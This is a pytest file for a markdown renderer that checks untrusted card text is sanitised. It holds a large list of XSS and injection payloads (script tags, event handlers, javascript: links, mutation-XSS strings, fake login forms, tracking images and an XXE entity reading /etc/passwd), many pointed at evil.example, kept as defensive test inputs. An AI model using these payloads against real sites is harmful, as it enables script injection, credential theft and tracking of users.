"""Cards of strangers: nothing in them runs, loads from elsewhere, or stands for a part of the page."""

from contextlib import suppress
from urllib.parse import urlsplit

import pytest

from allmende.web.markdown import MAX_MARKDOWN_CHARS, Place, TextTooLong, render_markdown
from tests.integration.web.reading import Reading
from tests.patience import soon

PLACE = Place("/a/b/blob/main", "/a/b/resolve/main")

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "a script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script behind a broken comment": "<!--><script>alert(1)</script>-->",
    "an event handler": '<img src="a.png" onerror="alert(1)">',
    "an event handler without quotes": "<p onclick=alert(1)>x</p>",
    "an event handler behind a slash": "<svg/onload=alert(1)>",
    "an event handler on details": "<details open ontoggle=alert(1)>x</details>",
    "an event handler in an image's title": '![x](a.png "x\\" onerror=\\"alert(1)")',
    "a handler out of an alternative text": '![" onerror="alert(1)](a.png)',
    "a handler out of a code's language": '```"onmouseover="alert(1)\nx\n```',
    "a javascript link": "[x](javascript:alert(1))",
    "a javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a javascript link with a line break": '<a href="java&#10;script:alert(1)">x</a>',
    "a javascript link with a tab": '<a href="jav\tascript:alert(1)">x</a>',
    "a javascript link behind control characters": '<a href="&#1;&#14; javascript:alert(1)">x</a>',
    "a javascript link with an invisible character": '<a href="java\u200bscript:alert(1)">x</a>',
    "a javascript link in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "a javascript autolink": "<javascript:alert(1)>",
    "a javascript reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "a vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "a data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a data picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "a picture from elsewhere": "![x](https://evil.example/track.png)",
    "a raw picture from elsewhere": '<img src="//evil.example/track.png">',
    "a picture from elsewhere behind backslashes": '<img src="\\\\evil.example\\track.png">',
    "a picture from elsewhere behind a mixed slash": '<img src="/\\evil.example/track.png">',
    "a picture set": '<img src="a.png" srcset="https://evil.example/x.png 2x">',
    "a picture element": '<picture><source srcset="https://evil.example/x"><img src="a.png"></picture>',
    "a frame": '<iframe src="https://evil.example/"></iframe>',
    "a frame's document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "a style": "<style>body{background:url(https://evil.example/x)}</style>",
    "a style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
    "a form": '<form action="https://evil.example/"><input name=token><button>Sign in</button></form>',
    "a button of another form": '<button form="logout" formaction="https://evil.example/">x</button>',
    "a text field": '<input type="password" name="token" autofocus>',
    "a class of the page": '<div class="failure skip">x</div>',
    "an id of the page": '<div id="content">x</div>',
    "a name for the document": '<a name="body" id="cookie">x</a>',
    "a drawing": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "a drawing's script": "<svg><script>alert(1)</script></svg>",
    "a drawing that loads": '<svg><image href="https://evil.example/x"/><use href="data:x"/></svg>',
    "a formula that mutates": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "a noscript that mutates": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a form that mutates": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a template": "<template><script>alert(1)</script></template>",
    "a portal": '<portal src="https://evil.example/"></portal><fencedframe src="x"></fencedframe>',
    "a video": '<video poster="https://evil.example/x" src="https://evil.example/y" autoplay></video>',
    "a sound": '<audio src="https://evil.example/x" onplay="alert(1)"></audio>',
    "a ping": '<a href="/x" ping="https://evil.example/">x</a>',
    "a custom element": '<x-evil onclick="alert(1)" is="y">x</x-evil>',
    "an escape from the article": "</article></main><h1>Sign in</h1>",
    "an escape out of code": "```\n</code></pre><script>alert(1)</script>\n```",
    "a table cell with a handler": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a footnote with a script": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "a footnote's hostile label": 'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    "a heading with a script": "# <script>alert(1)</script> x",
    "a heading that ends its id": '# "><img src=x onerror=alert(1)>',
    "zero bytes": "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>",
    "an unfinished tag": "<img src=x onerror=alert(1) ",
    "an unfinished attribute": '<a href="javascript:alert(1)',
    "a processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "a declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "a character data section": "<![CDATA[<script>alert(1)</script>]]>",
}

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "div", "dl",
    "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd",
    "li", "mark", "ol", "p", "pre", "q", "s", "samp", "section", "small", "span", "strong", "sub", "summary",
    "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "align", "alt", "checked", "class", "colspan", "dir", "disabled", "height", "href", "id", "lang",
    "loading", "open", "rel", "rowspan", "src", "start", "tabindex", "title", "type", "width",
}  # fmt: skip


def assert_harmless(fragment: str) -> None:
    found = Reading(fragment)
    assert found.tags() <= ALLOWED_TAGS
    assert found.attribute_names() <= ALLOWED_ATTRIBUTES
    focused = {
        (tag, attributes["tabindex"]) for tag, attributes in found.elements if "tabindex" in attributes
    }
    assert focused <= {("pre", "0"), ("table", "0")}
    for tag, address, attributes in found.addresses():
        parts = urlsplit(address)
        if tag == "a":
            assert parts.scheme in ("", "http", "https", "mailto"), address
            assert attributes["rel"] == "nofollow noopener"
        else:
            assert tag == "img", tag
            assert (parts.scheme, parts.netloc) == ("", ""), address
            assert address.startswith("/"), address
            assert "\\" not in address
    for _tag, attributes in found.elements:
        assert attributes.get("id", "card-").startswith("card-")
        assert all(
            name.startswith(("markdown-alert", "task-list-item", "footnotes"))
            for name in attributes.get("class", "").split()
        )


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_hostile_is_left_of(text: str) -> None:
    assert_harmless(render_markdown(text, PLACE))
    assert_harmless(render_markdown(f"before\n\n{text}\n\nafter", PLACE))
    assert_harmless(render_markdown(f"> - {text}", PLACE))


def test_text_around_something_hostile_stays() -> None:
    rendered = render_markdown("before <script>alert(1)</script> after", PLACE)
    assert "before" in rendered
    assert "after" in rendered
    assert "alert" not in rendered


@pytest.mark.parametrize(
    ("written", "address"),
    [
        ("docs/training.md", "/a/b/blob/main/docs/training.md"),
        ("./docs/x y.md", "/a/b/blob/main/docs/x%20y.md"),
        ("../../../etc/passwd", "/a/b/blob/main/etc/passwd"),
        ("..%2f..%2fsecret", "/a/b/blob/main/secret"),
        ("docs/a.md#part-one", "/a/b/blob/main/docs/a.md#part-one"),
        ("#classes", "#card-classes"),
        ("/lab/heron", "/lab/heron"),
        ("//evil.example/x", "https://evil.example/x"),
        ("https://example.org/a?b=c", "https://example.org/a?b=c"),
        ("mailto:a@example.org", "mailto:a@example.org"),
    ],
)
def test_a_link_leads_where_its_author_meant(written: str, address: str) -> None:
    (link,) = Reading(render_markdown(f"[x](<{written}>)", PLACE)).addresses()
    assert link[:2] == ("a", address)


def test_links_are_seen_from_the_folder_of_the_text() -> None:
    place = Place(PLACE.blob, PLACE.resolve, "docs/deep")
    (link,) = Reading(render_markdown("[x](../up.md)", place)).addresses()
    assert link[1] == "/a/b/blob/main/docs/up.md"


def test_a_picture_of_the_repo_is_shown_and_one_from_elsewhere_linked() -> None:
    rendered = render_markdown('![own](img/a.png)\n\n![foreign](https://example.org/b.png "B")', PLACE)
    assert [found[:2] for found in Reading(rendered).addresses()] == [
        ("img", "/a/b/resolve/main/img/a.png"),
        ("a", "https://example.org/b.png"),
    ]
    assert ">foreign</a>" in rendered


def test_what_people_write_is_rendered() -> None:
    text = (
        "# Title\n\n## Part & parcel\n\n## Part & parcel\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        "- [x] done\n- [ ] open\n\n"
        "~~gone~~ x[^1]\n\n```py\na < b\n```\n\n> [!NOTE]\n> mind\n\n"
        "<details><summary>More</summary>\n\nhidden\n\n"
        "</details>\n\n[^1]: note\n"
    )
    rendered = render_markdown(text, PLACE)
    for expected in (
        '<h2 id="card-title">Title</h2>',
        '<h3 id="card-part--parcel">',
        '<h3 id="card-part--parcel-1">',
        '<td align="right">2</td>',
        "\N{BALLOT BOX WITH CHECK}",
        "<s>gone</s>",
        "a &lt; b",
        "markdown-alert-note",
        "<summary>More</summary>",
        'id="card-fn1"',
        'href="#card-fn1"',
    ):
        assert expected in rendered
    assert_harmless(rendered)


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "*a **a ",
        "> ",
        "<div>",
        "`a``",
        "|a",
        "# a\n",
        "[^a] ",
        "&",
        "<",
        "_",
        "~a~~b",
        "- a\n",
        "www.a.",
    ],
)
def test_no_text_takes_long(unit: str) -> None:
    text = (unit * MAX_MARKDOWN_CHARS)[: 32 * 1024]
    with soon(20.0), suppress(TextTooLong):
        assert_harmless(render_markdown(text, PLACE))


def test_a_text_beyond_the_limit_is_refused() -> None:
    with pytest.raises(TextTooLong):
        render_markdown("a" * (MAX_MARKDOWN_CHARS + 1), PLACE)


def test_a_text_that_would_become_too_long_is_refused() -> None:
    with pytest.raises(TextTooLong):
        render_markdown("[^a] " * 26_000 + "\n\n[^a]: note", PLACE)
